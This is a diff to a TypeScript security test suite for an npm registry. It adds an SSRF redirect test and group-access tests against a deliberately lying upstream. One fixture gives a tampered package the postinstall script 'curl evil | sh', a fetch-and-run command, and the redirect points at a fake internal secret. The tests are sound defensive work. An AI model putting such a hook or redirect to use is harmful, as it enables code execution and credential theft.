@@ -8,8 +8,8 @@ import { makeTarball, packageTarball, publishBody } from '../helpers/npm-publish
 import { createUserAndToken, rawRequest, startRegistry, type RunningRegistry } from '../helpers/registry-process.js';
 
 /** An upstream whose packument announces an integrity its tarball does not have. */
-async function lyingUpstream(): Promise<{ server: Server; tarballHits: number }> {
-  const state = { server: undefined as unknown as Server, tarballHits: 0 };
+async function lyingUpstream(): Promise<{ server: Server; tarballHits: number; internalHits: number }> {
+  const state = { server: undefined as unknown as Server, tarballHits: 0, internalHits: 0 };
   const real = await packageTarball({ name: 'liar', version: '1.0.0' });
   const tampered = await packageTarball({ name: 'liar', version: '1.0.0', scripts: { postinstall: 'curl evil | sh' } });
   state.server = createServer((req, res) => {
@@ -18,6 +18,13 @@ async function lyingUpstream(): Promise<{ server: Server; tarballHits: number }>
       const port = (state.server.address() as AddressInfo).port;
       body.versions['1.0.0']!.dist.tarball = `http://127.0.0.1:${port}/liar/-/liar-1.0.0.tgz`;
       res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ name: 'liar', 'dist-tags': { latest: '1.0.0' }, versions: body.versions }));
+    } else if (req.url === '/redirector') {
+      // Same machine, other origin ("localhost" is not "127.0.0.1"): stands for an internal address.
+      const port = (state.server.address() as AddressInfo).port;
+      res.writeHead(307, { location: `http://localhost:${port}/internal-secret` }).end();
+    } else if (req.url === '/internal-secret') {
+      state.internalHits++;
+      res.writeHead(200, { 'content-type': 'application/json' }).end('{"name":"redirector","versions":{},"secret":"metadata-credentials"}');
     } else if (req.url === '/liar/-/liar-1.0.0.tgz') {
       state.tarballHits++;
       res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(tampered);
@@ -34,7 +41,7 @@ describe('npm bad input', () => {
   let token: string;
   let readOnly: string;
 
-  let liar: { server: Server; tarballHits: number };
+  let liar: { server: Server; tarballHits: number; internalHits: number };
 
   beforeAll(async () => {
     liar = await lyingUpstream();
@@ -44,6 +51,11 @@ repositories:
   npm-local: { format: npm, type: hosted }
   npm-kept: { format: npm, type: hosted, allowUnpublish: false }
   npm-liar: { format: npm, type: proxy, upstream: "http://127.0.0.1:${(liar.server.address() as AddressInfo).port}/" }
+  # Declared before the group it contains: build order must not depend on config order.
+  npm-outer: { format: npm, type: group, members: [npm-inner, npm-liar] }
+  npm-inner: { format: npm, type: group, members: [npm-private] }
+  npm-private: { format: npm, type: hosted, anonymousRead: false }
+  npm-mixed: { format: npm, type: group, members: [npm-private, npm-liar] }
 `);
     token = await createUserAndToken(registry.configFile, 'alice');
     readOnly = await createUserAndToken(registry.configFile, 'alice', { readOnly: true });
@@ -200,6 +212,29 @@ repositories:
       body: JSON.stringify({ name: 'mallory', password: 'mallory-password', type: 'user' }),
     });
     await expectRefused(answer, 403, /self-registration is disabled/);
+  });
+
+  it('never lets a group read past a member that refuses the client', async () => {
+    const manifest = { name: 'liar', version: '2.0.0' }; // the lying upstream has "liar" too
+    const published = await rawRequest(registry.url, '/npm-private/liar', { method: 'PUT', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: publishBody(manifest, await packageTarball(manifest)) });
+    expect(published.status, published.body).toBe(201);
+    for (const path of ['/npm-mixed/liar', '/npm-mixed/liar/-/liar-2.0.0.tgz', '/npm-outer/liar', '/npm-private/liar']) {
+      const anonymous = await rawRequest(registry.url, path);
+      expect(anonymous.status, path).toBe(401);
+    }
+    const search = JSON.parse((await rawRequest(registry.url, '/npm-mixed/-/v1/search?text=liar')).body) as { objects: unknown[] };
+    expect(search.objects).toEqual([]);
+    const authorized = await rawRequest(registry.url, '/npm-outer/liar', { headers: { authorization: `Bearer ${token}` } });
+    expect(authorized.status).toBe(200);
+    expect(Object.keys((JSON.parse(authorized.body) as { versions: object }).versions)).toEqual(['2.0.0']);
+  });
+
+  it('refuses an upstream redirect to another origin (SSRF)', async () => {
+    const before = liar.internalHits;
+    const answer = await rawRequest(registry.url, '/npm-liar/redirector');
+    expect(answer.status).toBe(502);
+    expect((JSON.parse(answer.body) as { error: string }).error).toMatch(/not on the configured upstream/);
+    expect(liar.internalHits).toBe(before);
   });
 
   it('still serves the good package unchanged after all of that', async () => {
